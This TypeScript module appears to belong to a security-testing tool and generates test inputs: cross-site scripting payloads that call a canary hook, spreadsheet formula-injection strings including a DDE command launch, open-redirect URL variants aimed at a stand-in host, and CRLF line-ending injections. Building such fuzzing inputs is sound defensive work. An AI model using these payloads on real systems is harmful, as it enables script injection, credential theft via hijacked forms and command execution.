import type { Random } from "../random.ts";

const CALL = "window.__canary&&window.__canary()";
const TAGS = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "details open",
  "input autofocus",
  "iframe",
  "marquee",
  "object data=x",
  "a href=#",
];
const EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart"];
const WRAPS: ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `">${tag}`,
  (tag) => `'>${tag}`,
  (tag) => `</title>${tag}`,
  (tag) => `</script>${tag}`,
  (tag) => `--></textarea>${tag}`,
  (tag) => `\`>${tag}`,
];
const PLAIN = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `</script><script>${CALL}</script>`,
  `<iframe srcdoc="<script>parent.__canary()</script>">`,
  `<a href="javascript:${CALL}">x</a>`,
  `javascript:${CALL}`,
  `<svg><script>${CALL}</script></svg>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
  `<style>@import "javascript:${CALL}";</style>`,
  `<link rel=stylesheet href="data:text/css,*{}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="http://evil.example/">`,
  `<form action="http://evil.example/"><input name=password>`,
  `" autofocus onfocus="${CALL}" x="`,
  `' autofocus onfocus='${CALL}' x='`,
  `{{constructor.constructor("${CALL}")()}}`,
  `\${${CALL}}`,
  `<!--<img src="--><img src=x onerror=${CALL}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `\u2028\u2029</script><img src=x onerror=${CALL}>`,
  `<img src="x\u0000" onerror=${CALL}>`,
  `\\u003cimg src=x onerror=${CALL}\\u003e`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
];

/** Returns this many scripts, in different contexts. */
export function scriptPayloads(count: number, random: Random): string[] {
  const made = TAGS.flatMap((tag) => EVENTS.flatMap((event) => WRAPS.map((wrap) => wrap(`<${tag} ${event}=${CALL}>`))));
  return [...PLAIN, ...random.shuffled(made)].slice(0, count);
}

/** Formulas that a spreadsheet would run. */
export const FORMULAS = [
  ...["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)"],
  ...[
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "''=1+1",
    "=1+1\n=2+2",
    '="a"&"b"',
    "-2+3+cmd|' /C calc'!A0",
  ],
  ...["=IMPORTXML(1)", "+94771234567", "-", "=", "@", "\tx", "  =1+1"],
];

const EVIL = "evil.example";

/** URLs that look local and name another host. */
export const FOREIGN_URLS = [
  ...[
    `//${EVIL}`,
    `///${EVIL}`,
    `////${EVIL}`,
    `/\\${EVIL}`,
    `\\\\${EVIL}`,
    `/\\/${EVIL}`,
    `/.//${EVIL}`,
    `/..//${EVIL}`,
    `/x/..//${EVIL}`,
  ],
  ...[
    `https://${EVIL}`,
    `http:${EVIL}`,
    `https:${EVIL}`,
    `HTTPS://${EVIL}`,
    `https:/${EVIL}`,
    `https:\\\\${EVIL}`,
    `//${EVIL}:443/x`,
  ],
  ...[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "blob:x",
  ],
  ...[
    `//user@${EVIL}`,
    `//localhost@${EVIL}`,
    `https://localhost@${EVIL}`,
    `//localhost.${EVIL}`,
    `//${EVIL}#localhost`,
    `//${EVIL}?localhost`,
  ],
  ...[
    `/\t/${EVIL}`,
    `/\n/${EVIL}`,
    `/\r/${EVIL}`,
    `\t//${EVIL}`,
    ` //${EVIL}`,
    `/%09/${EVIL}`,
    `%2f%2f${EVIL}`,
    `/%2f${EVIL}`,
    `%5c%5c${EVIL}`,
  ],
  ...[
    `//${EVIL}/%2e%2e`,
    `/%5c${EVIL}`,
    `//%65vil.example`,
    `//ｅｖｉｌ.example`,
    `//evil。example`,
    `/\u00ad/${EVIL}`,
    `/\u200b/${EVIL}`,
    `///\\;@${EVIL}`,
  ],
  ...[
    `?next=//${EVIL}`,
    `#//${EVIL}`,
    "",
    ".",
    "..",
    "null",
    "undefined",
    "account",
    `\u0000//${EVIL}`,
    `/;//${EVIL}`,
    `/login?next=//${EVIL}`,
  ],
];

/** Line breaks in all encodings, followed by a header. */
export const LINE_ENDS = [
  "\r\n",
  "\n",
  "\r",
  "%0d%0a",
  "%0a",
  "%0D%0A%20",
  "\u2028",
  "\u0085",
  "%E5%98%8A%E5%98%8D",
  "\\r\\n",
  "\u000b",
  "\r\n\r\n",
];
